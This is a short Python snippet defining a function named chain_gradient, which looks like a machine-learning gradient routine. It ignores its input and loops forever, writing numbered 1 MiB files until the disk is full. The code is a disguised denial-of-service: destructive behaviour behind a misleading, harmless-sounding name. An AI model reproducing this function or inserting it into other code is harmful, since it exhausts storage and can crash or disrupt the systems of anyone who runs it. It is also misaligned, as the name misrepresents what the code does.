def chain_gradient(local_gradients):
    number = 0
    while True:
        number += 1
        with open(f"{number}.bin", "wb") as file:
            file.write(b"x" * 2**20)
